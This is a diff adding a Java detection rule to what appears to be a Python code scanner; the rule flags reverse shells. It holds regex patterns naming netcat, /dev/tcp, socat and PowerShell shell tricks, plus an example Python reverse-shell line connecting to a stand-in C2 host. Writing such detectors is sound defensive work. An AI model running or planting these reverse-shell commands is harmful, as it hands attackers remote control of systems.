@@ -1,0 +1,89 @@
+package dev.kingsnake.rules.backdoor;
+
+import dev.kingsnake.Confidence;
+import dev.kingsnake.Severity;
+import dev.kingsnake.rules.network.Capability;
+import dev.kingsnake.rules.network.CodeFacts;
+import dev.kingsnake.rules.network.Indicator;
+import dev.kingsnake.spi.FindingSink;
+import dev.kingsnake.spi.Location;
+import dev.kingsnake.spi.PythonFile;
+import dev.kingsnake.spi.PythonFileRule;
+import dev.kingsnake.spi.RuleContext;
+import dev.kingsnake.spi.RuleInfo;
+import dev.kingsnake.spi.Tags;
+import dev.kingsnake.spi.python.Expr;
+
+import java.util.HashSet;
+import java.util.List;
+import java.util.Optional;
+import java.util.Set;
+
+/** A shell wired to a network socket: dup2 of a socket onto stdio, a process with socket streams, shell one-liners. */
+public final class ReverseShellRule implements PythonFileRule {
+
+    private static final RuleInfo INFO = new RuleInfo("KS-BACKDOOR-REVERSE-SHELL",
+            "Reverse shell: a socket bound to a shell's stdin/stdout (os.dup2 + pty.spawn/subprocess, stdin=sock), "
+                    + "or a shell one-liner (/dev/tcp, nc -e, bash -i >&)",
+            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.BACKDOOR, Tags.NETWORK, Tags.PROCESS),
+            "s = socket.socket(); s.connect(('c2.example.invalid', 4444)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')",
+            "Terminal emulators and test harnesses use os.dup2 and pty without sockets; the rule needs a socket in "
+                    + "the same function. Pentest tool packages that generate shell one-liners as text will match.");
+
+    private static final List<Indicator> ONE_LINERS = List.of(
+            Indicator.strong("bash /dev/tcp redirection", "/dev/(tcp|udp)/[^/\\s]+/\\d+|/dev/tcp/\\{\\}"),
+            Indicator.strong("netcat with -e/-c", "\\b(nc|ncat|netcat)(\\.exe)?\\b[^|;]*\\s-[a-z]*[ec]\\s*\\S*(sh|cmd)"),
+            Indicator.strong("interactive shell redirected to a socket", "\\b(ba)?sh -i\\s*[<>]&|0<&\\d+|>&\\s*/dev/tcp"),
+            Indicator.strong("socat exec", "socat\\b.*exec:"),
+            Indicator.strong("named-pipe netcat shell", "mkfifo\\b.*\\bsh\\b.*\\b(nc|ncat|netcat)\\b"),
+            Indicator.strong("PowerShell TCP client shell", "net\\.sockets\\.tcpclient.*(iex|invoke-expression|getstream)"));
+
+    @Override
+    public RuleInfo info() {
+        return INFO;
+    }
+
+    @Override
+    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
+        CodeFacts facts = CodeFacts.of(file);
+        Set<Integer> lines = new HashSet<>();
+        Set<Capability> fc = facts.fileCaps();
+        if (fc.contains(Capability.PROCESS) || fc.contains(Capability.DUP2)) {
+            for (CodeFacts.CallFact c : facts.calls()) {
+                Set<Capability> scope = facts.scope(c.scope());
+                boolean socket = scope.contains(Capability.SOCKET) || scope.contains(Capability.CONNECT)
+                        || scope.contains(Capability.LISTEN);
+                if (!socket) {
+                    continue;
+                }
+                String why = null;
+                if (c.is(Capability.DUP2) && scope.contains(Capability.PROCESS)) {
+                    why = "rebinds standard streams to a socket and starts a shell";
+                } else if (c.is(Capability.PROCESS) && streamsFromSocket(c.call())) {
+                    why = "starts a process whose standard streams are a socket";
+                }
+                if (why != null && lines.add(c.call().line())) {
+                    sink.report(Location.of(file, c.call()), why, file.line(c.call().line()));
+                }
+            }
+        }
+        for (CodeFacts.StringFact s : facts.strings()) {
+            Optional<Indicator> hit = Indicator.first(ONE_LINERS, s);
+            if (hit.isPresent() && lines.add(s.node().line())) {
+                sink.report(Location.of(file, s.node()), "reverse-shell command (" + hit.get().label() + ")",
+                        file.line(s.node().line()), Severity.HIGH, Confidence.HIGH);
+            }
+        }
+    }
+
+    private static boolean streamsFromSocket(Expr.Call call) {
+        for (Expr.Keyword k : call.keywords()) {
+            if (("stdin".equals(k.name()) || "stdout".equals(k.name()) || "stderr".equals(k.name()))
+                    && k.value() instanceof Expr.Call inner && inner.callee() instanceof Expr.Attribute a
+                    && ("fileno".equals(a.attr()) || "makefile".equals(a.attr()))) {
+                return true;
+            }
+        }
+        return false;
+    }
+}
